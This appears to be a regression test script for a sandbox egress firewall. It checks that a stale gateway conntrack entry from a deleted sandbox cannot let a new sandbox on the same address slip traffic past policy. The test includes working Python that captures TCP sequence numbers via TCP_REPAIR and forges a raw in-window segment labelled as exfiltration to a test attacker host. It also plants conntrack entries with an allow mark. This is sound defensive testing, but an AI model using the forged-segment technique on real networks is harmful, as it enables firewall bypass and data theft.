#!/bin/bash
# 55-slot-reuse-conntrack: sandbox a holds an allowed connection to the
# attacker open and reads its sequence numbers (TCP_REPAIR); a is deleted
# and, once its slot is free, sandbox b (policy {}) gets the same address
# and interface name. The gateway's conntrack entry of a's connection
# carried the allow mark, which mangle PREROUTING restores onto every
# packet of that tuple: b sends a raw in-window segment on a's 5-tuple.
# The entry must be gone once the slot is handed out again (the reaper
# deletes a deleted sandbox's connections before freeing its slot), so
# the segment is decided as b's and the attacker receives nothing. Then
# the start-up sweep: an entry from a free slot's address (left by a
# killed sluiced, or an older one) goes when sluiced restarts, while an
# entry of the kept sandbox b stays.
. "$(dirname "$0")/../lib/testbed.sh"
tb_init adv-slot-reuse-ct
PORT=4444	# a's allowed port on the attacker
SPORT=40000	# a's source port, reused by b's forged segment
tb_internet_up || { tb_fail "test bed up"; tb_done; }
tb_sluiced_start || { tb_fail "sluiced up"; tb_done; }

printf '{"sluice": {"allowedCidrs": ["%s:%d"]}}\n' "$TB_ADDR_ATK" "$PORT" \
    > "$TB_DIR/a.json"
echo '{}' > "$TB_DIR/b.json"
# gw_ct ARGS...: conntrack -L in the gateway, one entry a line
gw_ct() {
	ip netns exec "$TB_NETNS_GW" conntrack -L "$@" 2>/dev/null
}

tb_check "add a (allowed to the attacker's :$PORT)" tb_sandbox_add a "$TB_DIR/a.json"
addr_a=$(tb_sandbox_field a addr)
if_a=$(tb_gw_if a)
# a's connection, then its socket in repair mode: it stays open and
# sends nothing more (no FIN when the namespace goes)
_tb_bg "${P}-a" holder "$TB_DIR/holder.out" "$TB_PY" -u -c '
import socket, sys, time
TCP_REPAIR, TCP_REPAIR_QUEUE, TCP_QUEUE_SEQ = 19, 20, 21
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("0.0.0.0", int(sys.argv[2])))
s.connect((sys.argv[1], int(sys.argv[3])))
time.sleep(0.3)
s.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, 1)
s.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR_QUEUE, 2)	# send queue
snd = s.getsockopt(socket.IPPROTO_TCP, TCP_QUEUE_SEQ) & 0xffffffff
s.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR_QUEUE, 1)	# receive queue
rcv = s.getsockopt(socket.IPPROTO_TCP, TCP_QUEUE_SEQ) & 0xffffffff
print("seqs", snd, rcv, flush=True)
time.sleep(30)
' "$TB_ADDR_ATK" "$SPORT" "$PORT"
_tb_wait_for "a's connection" "$TB_DIR/holder.out" \
    grep -q '^seqs' "$TB_DIR/holder.out" || { tb_fail "a's connection up"; tb_done; }
read -r _ snd rcv < <(grep '^seqs' "$TB_DIR/holder.out")
ct_a=$(gw_ct -p tcp -s "$addr_a" --sport "$SPORT" --dport "$PORT")
echo "# a's entry: $ct_a"
tb_assert_match "$ct_a" "ESTABLISHED .*mark=268435456" \
    "a's connection is in the gateway's conntrack, ESTABLISHED, with the allow mark (0x10000000)"

tb_check "del a" tb_sluice sandbox del "${P}-a"
# the slot is free again once the reaper is done with it
for _ in $(seq 50); do
	pend=$(tb_status reaper.pending)
	[ "$pend" = 0 ] && break
	sleep 0.1
done
sleep 0.2
tb_assert_eq "$(gw_ct -s "$addr_a" | wc -l)" 0 \
    "no conntrack entry from a's address ($addr_a) once its slot is free"
tb_check "add b (policy {})" tb_sandbox_add b "$TB_DIR/b.json"
addr_b=$(tb_sandbox_field b addr)
tb_assert_eq "$addr_b $(tb_gw_if b)" "$addr_a $if_a" \
    "b has a's address and interface (the slot was reused)"

# b: one segment on a's 5-tuple, in a's window, from a raw socket
before=$(tb_attacker_payload_bytes dport="$PORT")
out=$(tb_in b "$TB_PY" - "$addr_b" "$TB_ADDR_ATK" "$SPORT" "$PORT" "$snd" "$rcv" <<'EOF'
import socket, struct, sys
def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s >> 16) + (s & 0xffff)
    s += s >> 16
    return ~s & 0xffff
src, dst = socket.inet_aton(sys.argv[1]), socket.inet_aton(sys.argv[2])
sport, dport, seq, ack = (int(x) for x in sys.argv[3:7])
data = b"EXFIL-FROM-SANDBOX-B\n"
tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, 0x18,
    65535, 0, 0) + data
c = csum(src + dst + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)
tcp = tcp[:16] + struct.pack("!H", c) + tcp[18:]
ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 1, 0x4000, 64,
    6, 0, src, dst)
ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
r = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
print("sent", r.sendto(ip + tcp, (sys.argv[2], 0)))
EOF
)
tb_assert_match "$out" "^sent 61$" "b sent its forged segment (61 bytes)"
sleep 1
tb_assert_eq "$(( $(tb_attacker_payload_bytes dport="$PORT") - before ))" 0 \
    "the attacker received no payload from b on a's connection"
tb_assert_eq "$(tb_sql "SELECT count(*) FROM flows WHERE sandbox = '${P}-b' AND verdict = 'allow'")" 0 \
    "no flow of b is allowed"

# ---- start-up: a free slot's entries go, a kept sandbox's stay
IFS=. read -r o1 o2 o3 o4 <<< "$addr_b"
orphan="$o1.$o2.$o3.$((o4 + 20))"	# slot 5's sandbox address: free
ip netns exec "$TB_NETNS_GW" conntrack -I -p tcp -s "$orphan" -d "$TB_ADDR_ATK" \
    --sport "$SPORT" --dport "$PORT" --state ESTABLISHED --timeout 600 \
    --mark 0x10000000 >/dev/null 2>&1
ip netns exec "$TB_NETNS_GW" conntrack -I -p tcp -s "$addr_b" -d "$TB_ADDR_ATK" \
    --sport "$((SPORT + 1))" --dport "$PORT" --state ESTABLISHED --timeout 600 \
    >/dev/null 2>&1
# planted_b: b's planted entry (a's own, if left, is not counted)
planted_b() {
	gw_ct -p tcp -s "$addr_b" --sport "$((SPORT + 1))" | wc -l
}
tb_assert_eq "$(gw_ct -s "$orphan" | wc -l) $(planted_b)" "1 1" \
    "planted: one entry from a free slot's address ($orphan), one from b's"
tb_sluiced_kill9	# as a crash would: no clean stop
tb_check "sluiced starts again (b kept)" tb_sluiced_start
tb_assert_eq "$(gw_ct -s "$orphan" | wc -l) $(planted_b)" "0 1" \
    "after the restart: the free slot's entry is gone, b's stays"
tb_done
